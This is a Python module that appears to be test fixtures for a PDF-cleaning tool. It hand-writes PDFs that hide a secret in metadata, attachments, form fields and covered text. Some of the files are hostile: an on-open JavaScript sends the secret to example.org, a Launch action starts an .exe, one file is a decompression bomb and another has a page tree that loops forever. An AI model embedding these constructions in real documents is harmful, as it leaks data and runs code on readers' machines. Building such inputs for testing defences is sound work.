"""PDFs as people and attackers make them, written by hand, object by object."""

from __future__ import annotations

import zlib
from collections.abc import Sequence

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R %b >>"
INK = b"0.2 0.4 0.4 rg 20 20 200 100 re f"


def stream(content: bytes, head: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), head, content)


def pdf(
    *more: bytes,
    root: bytes = b"",
    page: bytes = b"",
    info: bytes = b"",
    ink: bytes = INK,
    kids: bytes = b"[3 0 R]",
    count: int = 1,
) -> bytes:
    """A PDF of one page: its further objects are numbered from 5, `info` comes first of them."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %b >>" % root,
        b"<< /Type /Pages /Kids %b /Count %d >>" % (kids, count),
        PAGE % page,
        stream(ink),
        *([info] if info else []),
        *more,
    ]
    return written(objects, b"/Info 5 0 R" if info else b"")


def written(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """Objects as a file, with the table of where they are."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %b >>\n" % (len(objects) + 1, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def with_info(secret: bytes) -> bytes:
    """Author, title and the program that made it."""
    return pdf(info=b"<< /Author (%b) /Title (%b) /Creator (%b) >>" % (secret, secret, secret))


def with_xmp(secret: bytes) -> bytes:
    """The same as XML."""
    xml = b"<x:xmpmeta><dc:creator>%b</dc:creator></x:xmpmeta>" % secret
    return pdf(stream(xml, b"/Type /Metadata /Subtype /XML"), root=b"/Metadata 5 0 R")


def with_script(secret: bytes) -> bytes:
    """A script that runs when it is opened."""
    act = b'<< /S /JavaScript /JS (app.launchURL\\("http://example.org/%b"\\);) >>' % secret
    return pdf(act, root=b"/OpenAction 5 0 R")


def with_attachment(secret: bytes) -> bytes:
    """A file within the file."""
    return pdf(
        b"<< /Type /Filespec /F (%b.exe) /EF << /F 6 0 R >> >>" % secret,
        stream(b"MZ" + secret, b"/Type /EmbeddedFile"),
        root=b"/Names << /EmbeddedFiles << /Names [(%b) 5 0 R] >> >>" % secret,
    )


def with_link(secret: bytes) -> bytes:
    """A link to somewhere, and a program to start."""
    return pdf(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A 6 0 R >>",
        b"<< /S /URI /URI (http://example.org/%b) >>" % secret,
        b"<< /S /Launch /F (%b.exe) >>" % secret,
        page=b"/Annots [5 0 R] /AA << /O 7 0 R >>",
    )


def with_form(secret: bytes) -> bytes:
    """A field that somebody filled in."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (%b) /Rect [9 9 99 39] >>"
    return pdf(field % secret, root=b"/AcroForm << /Fields [5 0 R] >>", page=b"/Annots [5 0 R]")


def with_layers_under(secret: bytes) -> bytes:
    """Words that were covered with a black bar, but are there."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    ink = b"BT /F 9 Tf 30 60 Td (%b) Tj ET 0 g 0 0 300 200 re f" % secret
    return pdf(font, page=b"/Resources << /Font << /F 5 0 R >> >>", ink=ink)


def with_history(secret: bytes) -> bytes:
    """An older version of it, kept at the front of the newer one."""
    return with_info(secret) + pdf()[9:]


def of_many_pages(count: int) -> bytes:
    """Very many pages, all the same one."""
    return pdf(kids=b"[" + b"3 0 R " * count + b"]", count=count)


def of_great_size() -> bytes:
    """One page as large as a house."""
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400000 14400000] /Contents 4 0 R >>",
            stream(INK),
        ]
    )


def that_holds_itself() -> bytes:
    """A tree of pages that has no end."""
    return pdf(kids=b"[2 0 R]", count=3)


def that_swells(megabytes: int) -> bytes:
    """A few bytes that become very many."""
    packed = zlib.compress(b" " * (megabytes << 20), 9)
    return written(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            PAGE % b"",
            stream(packed, b"/Filter /FlateDecode"),
        ]
    )
